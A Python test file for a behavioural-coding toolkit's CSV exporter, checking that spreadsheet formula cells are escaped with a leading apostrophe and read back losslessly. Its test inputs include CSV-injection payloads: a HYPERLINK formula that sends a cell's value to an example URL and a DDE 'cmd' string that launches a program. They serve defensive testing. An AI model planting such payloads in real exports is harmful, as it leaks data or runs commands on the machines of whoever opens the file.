"""Formula-safe CSV: text a spreadsheet would run as a formula is written with a leading
``'``, the kit's readers take exactly that ``'`` off, and every round trip is lossless."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vigkit import Coding
from vigkit.coding.workspace import Workspace
from vigkit.core.csvsafe import DANGEROUS_FIRST, protect, unprotect
from vigkit.media.moment import read_moments

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
#: A cell that is only a number (a spreadsheet reads it as a number, never a formula).
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][+-]?\d+)?$")
SETTINGS = settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def event(**values: object) -> dict[str, object]:
    """One valid event, with the given columns changed."""
    base: dict[str, object] = {
        "clip": "c1",
        "coder": "T07",
        "code": "being-attentive",
        "onset": 1.5,
    }
    base.update(values)
    return base


def cells_of(path: Path) -> list[list[str]]:
    """The file as any spreadsheet or CSV program sees it: plain cells, nothing undone."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_the_dangerous_characters_are_the_documented_six() -> None:
    assert sorted(DANGEROUS_FIRST) == sorted(DANGEROUS)


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
def test_each_dangerous_first_character_is_prefixed_and_read_back(
    tmp_path: Path, first: str
) -> None:
    note = f'{first}HYPERLINK("http://example.org/?"&A1,"x")'
    coding = Coding([event(note=note, subject=f"{first}1+1", id=f"{first}cmd")])
    path = coding.to_csv(tmp_path / "c.csv")
    rows = cells_of(path)
    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    assert row["note"] == "'" + note
    if first.strip():  # ids are stripped when a coding is made, so no tab or CR is left
        assert row["id"] == f"'{first}cmd"
    back = Coding.read_csv(path)
    assert back.to_records() == coding.to_records()
    assert back.events["note"].tolist() == [note]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),  # a note that really begins with '= keeps its own '
        ("''@x", "'''@x"),
        ("'tis", "'tis"),  # an apostrophe before a harmless character is left alone
        ("'", "'"),
        ("''", "''"),
        ("", ""),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("-", "'-"),
        ("\r\n", "'\r\n"),
    ],
    ids=repr,
)
def test_the_rule(text: str, written: str) -> None:
    assert protect(text) == written
    assert unprotect(written) == text


@given(st.text())
def test_protect_then_unprotect_is_the_identity(text: str) -> None:
    written = protect(text)
    assert unprotect(written) == text
    assert not written.startswith(tuple(DANGEROUS_FIRST))


@given(st.text())
def test_unprotect_then_protect_gives_back_what_the_writer_wrote(text: str) -> None:
    """The rule is a bijection on what the writer can produce, not only one way."""
    written = protect(text)
    assert protect(unprotect(written)) == written


@SETTINGS
@given(note=st.text(), subject=st.text())
def test_any_note_round_trips_through_csv(tmp_path: Path, note: str, subject: str) -> None:
    coding = Coding([event(note=note, subject=subject)])
    path = coding.to_csv(tmp_path / "round.csv")
    back = Coding.read_csv(path)
    assert back.events["note"].tolist() == [note]
    assert back.to_records() == coding.to_records()
    for row in cells_of(path):
        for cell in row:
            assert not cell.startswith(tuple(DANGEROUS_FIRST)) or PLAIN_NUMBER.match(cell)


def test_an_export_opened_as_plain_csv_has_no_formula_cell(tmp_path: Path) -> None:
    notes = [f"{first}SUM(A1:A9)" for first in DANGEROUS] + ["'=already", "-3 points", "@T07"]
    coding = Coding(
        [event(id=f"e{i}", note=note, onset=float(i)) for i, note in enumerate(notes)]
        + [event(id="-e", subject="+sub", note="fine")]
    )
    path = coding.to_csv(tmp_path / "export.csv")
    text = path.read_text(encoding="utf-8")
    cells = [cell for row in cells_of(path) for cell in row]
    assert len(cells) == 13 * (len(notes) + 2)
    formulas = [c for c in cells if c.startswith(tuple(DANGEROUS_FIRST))]
    assert formulas == []
    assert "'=SUM(A1:A9)" in text
    assert Coding.read_csv(path) == coding


def test_the_workspace_export_is_formula_safe(tmp_path: Path) -> None:
    """The export a trainee hands to a supervisor, made from tags in the journal."""
    workspace = Workspace(tmp_path / "ws")
    journal = workspace.journal("C1", "T01")
    journal.add("guiding", 1.5, 3, subject="=adult", note="=cmd|' /C calc'!A0")
    journal.add("waiting", 4, note="+44 said 'hello'")
    path = workspace.export_coding("C1", "T01")
    rows = cells_of(path)
    notes = [dict(zip(rows[0], row, strict=True))["note"] for row in rows[1:]]
    assert notes == ["'=cmd|' /C calc'!A0", "'+44 said 'hello'"]
    assert [c for row in rows for c in row if c.startswith(tuple(DANGEROUS_FIRST))] == []
    assert Coding.read(path) == workspace.coding("C1", "T01")


def test_semicolon_and_tab_files_are_unprotected_too(tmp_path: Path) -> None:
    for delimiter, name in ((";", "semi.csv"), ("\t", "tabs.tsv")):
        path = tmp_path / name
        header = delimiter.join(["clip", "coder", "code", "onset", "note"])
        path.write_text(
            f"{header}\nc1{delimiter}T07{delimiter}being-attentive{delimiter}1{delimiter}'@x\n"
        )
        assert Coding.read(path).events["note"].tolist() == ["@x"]


def test_moments_captions_are_read_with_the_same_rule(tmp_path: Path) -> None:
    path = tmp_path / "moments.csv"
    path.write_text("source,start,end,caption\nfilm.mp4,0:01,0:03,'=a smile\nfilm.mp4,4,5,'tis\n")
    captions = [moment.caption for moment in read_moments(path)]
    assert captions == ["=a smile", "'tis"]
